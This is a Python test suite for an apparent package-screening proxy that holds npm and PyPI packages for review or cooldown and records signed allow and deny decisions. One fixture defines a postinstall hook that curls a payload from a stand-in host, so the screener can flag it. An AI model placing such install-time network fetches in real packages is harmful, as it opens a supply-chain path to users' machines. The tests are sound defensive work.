"""Cooldown and review holds: listed, explained, released or denied by a signed disposition."""

import datetime
import json

from support.clients import NodeProject
from support.packages import npm_package, wheel
from support.server import wait_until


def now(offset_hours: float = 0) -> str:
    moment = datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(hours=offset_hours)
    return moment.strftime("%Y-%m-%dT%H:%M:%S.000Z")


SUSPICIOUS = dict(
    scripts={"postinstall": "curl -sSf https://cdn.example.invalid/payload.bin -o payload.bin"},
)


def test_a_suspicious_package_is_held_explained_and_released(deploy, npm_upstream, tmp_path):
    npm = npm_upstream([npm_package("fetches-on-install", "1.4.0", **SUSPICIOUS)])
    server = deploy(npm=npm.url).start()
    project = NodeProject(tmp_path / "before", server.url, {"fetches-on-install": "1.4.0"})
    project.npm("install", "--ignore-scripts").failed_saying("403", "fetches-on-install@1.4.0")

    holds = server.run_json("holds", "list")
    held = [hold for hold in holds if hold["purl"] == "pkg:npm/fetches-on-install@1.4.0"]
    assert len(held) == 1 and held[0]["code"] == "HELD_REVIEW"
    why = server.run("why", "pkg:npm/fetches-on-install@1.4.0", expect=3).stdout
    assert "HELD_REVIEW" in why and "INST-SCRIPT-NET" in why
    assert "INST-SCRIPT-NET" in server.run("holds", "show", held[0]["id"], expect=None).stdout

    refused = server.run("holds", "allow", held[0]["id"], expect=2)
    assert "--reason" in refused.stderr
    size = server.head_of_log()
    allowed = server.run("holds", "allow", held[0]["id"], "--reason", "read the script, it fetches test data")
    assert "statement" in allowed.stdout and "log index" in allowed.stdout
    assert server.head_of_log() == size + 1

    after = NodeProject(tmp_path / "after", server.url, {"fetches-on-install": "1.4.0"})
    after.npm("install", "--ignore-scripts").succeeded()
    assert "1 disposition" in server.run("log", "verify").stdout


def test_cooldown_holds_both_routes_is_lifted_by_allow_and_deny_beats_allow(deploy, npm_upstream, tmp_path):
    npm = npm_upstream(
        [npm_package("fresh-fixture", "1.0.0"), npm_package("fresh-fixture", "1.1.0", published=now(-1))]
    )
    server = deploy(npm=npm.url, screening="{ cooldown: 72h }").start()
    listing = server.get("/fresh-fixture").json()
    assert set(listing["versions"]) == {"1.0.0"} and listing["dist-tags"]["latest"] == "1.0.0"
    for target in ("/fresh-fixture/1.1.0", "/fresh-fixture/-/fresh-fixture-1.1.0.tgz"):
        answer = server.get(target)
        assert answer.status == 403 and answer.json()["code"] == "HELD_COOLDOWN"
        assert answer.json()["until"] and "1.0.0" in answer.json()["alternatives"]
        assert answer.headers["x-jurat-decision"] == "hold"

    NodeProject(tmp_path / "range", server.url, {"fresh-fixture": "^1.0.0"}).npm("install").succeeded()
    NodeProject(tmp_path / "pin", server.url, {"fresh-fixture": "1.1.0"}).npm("install").failed_saying("fresh-fixture")

    server.run("holds", "allow", "pkg:npm/fresh-fixture@1.1.0", "--reason", "urgent fix, diff read")
    assert set(server.get("/fresh-fixture").json()["versions"]) == {"1.0.0", "1.1.0"}
    NodeProject(tmp_path / "allowed", server.url, {"fresh-fixture": "1.1.0"}).npm("install").succeeded()

    server.run("holds", "deny", "pkg:npm/fresh-fixture@1.1.0", "--reason", "breaks our build")
    assert set(server.get("/fresh-fixture").json()["versions"]) == {"1.0.0"}
    answer = server.get("/fresh-fixture/-/fresh-fixture-1.1.0.tgz")
    assert answer.status == 403 and answer.json()["code"] == "BLOCKED_DENIED"


def test_cooldown_on_python_files_uses_the_project_json_of_an_html_only_index(deploy, python_upstream):
    python = python_upstream(
        [wheel("fresh-fixture", "1.0.0"), wheel("fresh-fixture", "1.1.0", uploaded=now(-1))]
    )
    server = deploy(pypi=python.simple_url, screening="{ cooldown: 7d }").start()
    page = server.get("/simple/fresh-fixture/", {"Accept": "application/vnd.pypi.simple.v1+json"}).json()
    notes = {file["filename"].split("-")[1]: file["yanked"] for file in page["files"]}
    assert notes["1.0.0"] is False and "cooldown" in notes["1.1.0"]
    young = next(file for file in page["files"] if "-1.1.0-" in file["filename"])
    for suffix in ("", ".metadata"):
        answer = server.get(young["url"].removeprefix(server.url) + suffix)
        assert answer.status == 403 and answer.json()["code"] == "HELD_COOLDOWN"


def test_a_cached_listing_from_before_a_block_is_not_confirmed_by_304(deploy, npm_upstream):
    npm = npm_upstream([npm_package("cached-fixture", "1.0.0"), npm_package("cached-fixture", "1.1.0")])
    server = deploy(npm=npm.url).start()
    first = server.get("/cached-fixture")
    assert server.get("/cached-fixture", {"If-None-Match": first.headers["etag"]}).status == 304
    server.run("holds", "deny", "pkg:npm/cached-fixture@1.1.0", "--reason", "found a problem")
    again = server.get("/cached-fixture", {"If-None-Match": first.headers["etag"]})
    assert again.status == 200
    assert set(json.loads(again.body)["versions"]) == {"1.0.0"}


def test_the_link_that_npm_prints_leads_to_a_page_and_to_json(deploy, npm_upstream):
    npm = npm_upstream([npm_package("fresh-fixture", "1.0.0"), npm_package("fresh-fixture", "1.1.0", published=now(-1))])
    server = deploy(npm=npm.url, screening="{ cooldown: 72h }").start()
    message = server.get("/fresh-fixture").json()["policyRestrictions"]["message"]
    link = next(word for word in message.split() if "/-/why" in word).removeprefix(server.url)
    page = server.get(link, {"Accept": "text/html"})
    assert page.status == 200 and b"1.1.0" in page.body and page.headers["content-type"].startswith("text/html")
    artifacts = server.get(link).json()["artifacts"]
    codes = {artifact["purl"].rsplit("@", 1)[1]: artifact["code"] for artifact in artifacts}
    assert codes == {"1.0.0": "HELD_PENDING", "1.1.0": "HELD_COOLDOWN"}
    one = server.get("/-/why?purl=pkg:npm/fresh-fixture@1.1.0").json()
    assert [artifact["code"] for artifact in one["artifacts"]] == ["HELD_COOLDOWN"]
    assert server.get("/-/why?purl=nonsense").status == 400
    assert server.get("/-/why").status == 400


def test_an_exception_that_has_expired_leaves_the_deny_in_force(deploy, npm_upstream):
    npm = npm_upstream([npm_package("denied-fixture", "1.0.0")])
    server = deploy(npm=npm.url).start()
    target, purl = "/denied-fixture/-/denied-fixture-1.0.0.tgz", "pkg:npm/denied-fixture@1.0.0"
    server.run("holds", "deny", purl, "--reason", "unmaintained")
    server.run("holds", "allow", purl, "--reason", "one last build", "--until", "3s")
    assert server.get(target).status == 200
    wait_until(lambda: server.get(target).status == 403, "the exception ends", 20)
    assert server.get(target).json()["code"] == "BLOCKED_DENIED"


def test_a_ruling_that_could_never_act_is_refused_and_not_logged(deploy, npm_upstream, python_upstream):
    npm = npm_upstream([npm_package("scoped-fixture", "1.0.0"), npm_package("fetches-on-install", "1.4.0", **SUSPICIOUS)])
    server = deploy(npm=npm.url, pypi=python_upstream([wheel("plain-fixture", "1.0.0")]).simple_url).start()
    assert server.get("/fetches-on-install/-/fetches-on-install-1.4.0.tgz").status == 403
    hold = server.run_json("holds", "list")[0]["id"]
    size = server.head_of_log()
    ruling = ("holds", "deny", "pkg:npm/scoped-fixture@1.0.0", "--reason", "x", "--registry")
    assert "npmjs" in server.run(*ruling, "npmsj", expect=2).stderr
    server.run(*ruling, "pypi", expect=5)
    assert "npmjs" in server.run("holds", "deny", hold, "--reason", "x", "--registry", "pypi", expect=2).stderr
    assert server.head_of_log() == size
    server.run(*ruling, "npmjs")
    assert server.get("/scoped-fixture/-/scoped-fixture-1.0.0.tgz").json()["code"] == "BLOCKED_DENIED"
